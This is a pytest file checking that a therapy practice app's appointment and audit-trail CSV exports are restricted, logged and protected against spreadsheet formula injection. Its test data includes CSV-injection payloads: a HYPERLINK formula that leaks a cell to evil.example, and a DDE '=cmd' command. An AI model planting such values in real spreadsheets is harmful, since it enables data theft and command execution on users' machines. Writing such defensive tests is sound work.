"""CSV for the practice: a therapist's appointments and the administrator's audit trail. UTF-8
with a BOM for spreadsheet apps; a cell that a spreadsheet would run as a formula comes back
quoted when read with Python's csv; the audit file holds exactly what its page lists under the
same filters, and only an administrator gets it; every download is in the audit trail.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from conftest import add_couple, login
from counselor_app import csvfile
from counselor_app.audit import services as audit
from counselor_app.extensions import db
from counselor_app.models import Appointment, AppointmentStatus, Attendance, AuditEvent
from host_support import PREFIX, clinician, host, host_template, other_clinician  # noqa: F401

BOM = b"\xef\xbb\xbf"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
EVENT_ROW = re.compile(r"<tr><td>(\d+)</td>")


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(BOM), body[:20]
    assert body[3:6] != BOM  # one BOM, not one per streamed piece
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def add_appointment(app, couple_id, starts_at, **values) -> int:
    with app.app_context():
        appointment = Appointment(couple_id=couple_id, starts_at=starts_at, **values)
        db.session.add(appointment)
        db.session.commit()
        return appointment.id


def exports(app, endpoint):
    with app.app_context():
        return db.session.execute(
            select(AuditEvent.therapist_id, AuditEvent.object_type).where(
                AuditEvent.action == "export", AuditEvent.endpoint == endpoint
            )
        ).all()


# ------------------------------------------------------------------------------ the helper
@pytest.mark.parametrize(
    "typed",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", EVIL],
)
def test_a_cell_that_would_start_a_formula_is_quoted(typed):
    (row,) = list(csv.reader(io.StringIO(csvfile.text(["x"], [[typed]])[1:])))[1:]
    assert row == ["'" + typed]


@pytest.mark.parametrize("kept", ["Alex", "O'Neil", "1+1", "a=b", "", "Zoë", 42, -3])
def test_other_cells_are_kept_as_they_are(kept):
    rows = list(csv.reader(io.StringIO(csvfile.text(["x"], [[kept]]).lstrip("\ufeff"))))
    assert rows == [["x"], [str(kept)]]


# ------------------------------------------------------------------------------ appointments
def test_a_therapists_appointments_csv(app, client, therapist, make_therapist):
    """Their own couples only, oldest first, the couple's name in and neutralised."""
    other = make_therapist("Toni Elsewhere")
    evil = add_couple(app, therapist.id, (EVIL, "-Sam"), concerns="ZQXCONCERN")
    plain = add_couple(app, therapist.id, ("Zoë", "Kim"))
    theirs = add_couple(app, other.id, ("Jordan", "Lee"))
    add_appointment(
        app,
        evil,
        datetime(2026, 3, 9, 18, 0, tzinfo=UTC),
        duration_minutes=90,
        status=AppointmentStatus.COMPLETED,
        attendance=Attendance.ONLY_A,
    )
    add_appointment(
        app, plain, datetime(2026, 3, 7, 19, 5, tzinfo=UTC), status=AppointmentStatus.CANCELLED
    )
    add_appointment(app, theirs, datetime(2026, 3, 8, 10, 0, tzinfo=UTC))

    login(client, therapist)
    response = client.get("/calendar/appointments.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="appointments-\d{4}-\d{2}-\d{2}\.csv"',
        response.headers["Content-Disposition"],
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    assert rows == [
        ["Date (UTC)", "Start (UTC)", "Duration (minutes)", "Status", "Couple", "Attendance"],
        ["2026-03-07", "19:05", "60", "Cancelled", "Zoë & Kim", ""],
        ["2026-03-09", "18:00", "90", "Completed", f"'{EVIL} & -Sam", f"'{EVIL} only"],
    ]
    body = response.get_data(as_text=True)
    assert "Jordan" not in body and "ZQXCONCERN" not in body
    assert exports(app, "calendars.appointments_csv") == [(therapist.id, "calendars")]
    # Linked from the calendar page and every couple's appointments page.
    assert 'href="/calendar/appointments.csv"' in client.get("/calendar").get_data(as_text=True)
    page = client.get(f"/couples/{plain}/appointments").get_data(as_text=True)
    assert 'href="/calendar/appointments.csv"' in page


def test_the_appointments_csv_is_for_a_signed_in_therapist(client):
    response = client.get("/calendar/appointments.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# ------------------------------------------------------------------------------ audit trail
def seed_trail(app, client, therapist, make_therapist):
    """A few therapists' events over a few couples and days; one with formula-like values."""
    other = make_therapist('=HYPERLINK("http://evil.example")')
    first = add_couple(app, therapist.id, ("Alex", "Sam"))
    second = add_couple(app, other.id, ("Jordan", "Lee"))
    login(client, therapist)
    client.get(f"/couples/{first}")
    client.get(f"/couples/{first}/appointments")
    client.post_form(f"/couples/{first}/close")
    other_client = app.test_client()
    login(other_client, other)
    other_client.get(f"/couples/{second}")
    other_client.get(f"/couples/{second}/intake/export.json")
    with app.app_context():
        audit.record(
            "=cmd|' /C calc'!A0",
            therapist_id=other.id,
            object_type="-2+3",
            couple_id=second,
            endpoint="+SUM(1,2)",
            address="@evil",
        )
        db.session.commit()
    return other, first, second


def page_ids(client, query: str) -> list[int]:
    response = client.get(f"/admin/audit?{query}")
    assert response.status_code == 200
    return [int(i) for i in EVENT_ROW.findall(response.get_data(as_text=True))]


def test_the_audit_csv_holds_what_the_page_lists_under_the_same_filters(
    app, client, therapist, make_therapist
):
    other, _, second = seed_trail(app, client, therapist, make_therapist)
    admin = make_therapist("Ada Administrator", admin=True)
    admin_client = app.test_client()
    login(admin_client, admin)
    today = datetime.now(UTC).date()
    queries = [
        "",
        f"therapist={therapist.id}",
        "action=view",
        f"couple={second}",
        f"therapist={other.id}&action=export",
        f"since={today:%Y-%m-%d}",
        f"since={today + timedelta(days=1):%Y-%m-%d}",
    ]
    sizes = []
    for query in queries:
        with app.app_context():
            last = db.session.scalar(select(func.max(AuditEvent.id)))
        listed = page_ids(admin_client, query)
        response = admin_client.get(f"/admin/audit.csv?{query}")
        assert response.status_code == 200, query
        rows = read_csv(response)
        assert rows[0][:5] == ["Event", "When (UTC)", "Therapist id", "Therapist", "Action"]
        # The page lists what was there before it was opened; the file is made after the page
        # and its own download were recorded: those two are the only extra rows it may hold.
        in_file = [int(row[0]) for row in rows[1:]]
        assert [i for i in in_file if i <= last] == listed, query
        assert len(in_file) - len(listed) <= 2, query
        sizes.append(len(listed))
    assert sizes[0] > max(sizes[1:5]) and min(sizes[1:6]) > 0 and sizes[6] == 0, sizes
    assert exports(app, "admin.audit_csv") == [(admin.id, "admin")] * len(queries)

    # The filters narrowed the file as they did the page: by therapist, action and couple.
    rows = read_csv(admin_client.get(f"/admin/audit.csv?therapist={other.id}&action=export"))
    assert {(row[2], row[4]) for row in rows[1:]} == {(str(other.id), "export")}
    rows = read_csv(admin_client.get(f"/admin/audit.csv?couple={second}"))
    assert {row[7] for row in rows[1:]} == {str(second)}


def test_the_audit_csv_neutralises_formula_cells(app, client, therapist, make_therapist):
    other, _, second = seed_trail(app, client, therapist, make_therapist)
    admin = app.test_client()
    login(admin, make_therapist("Ada Administrator", admin=True))
    rows = read_csv(admin.get(f"/admin/audit.csv?couple={second}&therapist={other.id}"))
    header = rows[0]
    planted = next(dict(zip(header, row, strict=True)) for row in rows if row[5] == "'-2+3")
    assert planted["Action"] == "'=cmd|' /C calc'!A0"
    assert planted["Page"] == "'+SUM(1,2)"
    assert planted["From"] == "'@evil"
    assert planted["Therapist"] == '\'=HYPERLINK("http://evil.example")'
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The chain the file came from is intact: exporting changed no event.
    with app.app_context():
        assert audit.verify().ok


def test_the_audit_csv_is_for_administrators_only(app, client, therapist, make_therapist):
    login(client, therapist)
    assert client.get("/admin/audit.csv").status_code == 403
    assert client.get("/admin/audit").status_code == 403
    assert exports(app, "admin.audit_csv") == []
    visitor = app.test_client()
    response = visitor.get("/admin/audit.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_the_audit_page_links_to_its_csv_with_its_filters(app, client, make_therapist):
    login(client, make_therapist(admin=True))
    page = client.get("/admin/audit?action=export&couple=7").get_data(as_text=True)
    link = re.search(r'href="(/admin/audit\.csv[^"]*)"', page).group(1).replace("&amp;", "&")
    assert "action=export" in link and "couple=7" in link


# ------------------------------------------------------------------------------ mounted
def test_mounted_the_csv_downloads_under_the_hosts_prefix(host, clinician, other_clinician):
    """Ada is an administrator of the host's (so of ours), Ben is not."""
    ada, ben = host.test_client(), host.test_client()
    ada.sign_in(clinician)
    ben.sign_in(other_clinician)
    assert ada.get(f"{PREFIX}/").status_code == 200
    assert ben.get(f"{PREFIX}/").status_code == 200

    response = ada.get(f"{PREFIX}/admin/audit.csv")
    assert response.status_code == 200
    assert len(read_csv(response)) > 1
    assert ben.get(f"{PREFIX}/admin/audit.csv").status_code == 403
    response = ben.get(f"{PREFIX}/calendar/appointments.csv")
    assert response.status_code == 200 and len(read_csv(response)) == 1  # the header alone
    assert len(exports(host, "admin.audit_csv")) == 1
    assert len(exports(host, "calendars.appointments_csv")) == 1
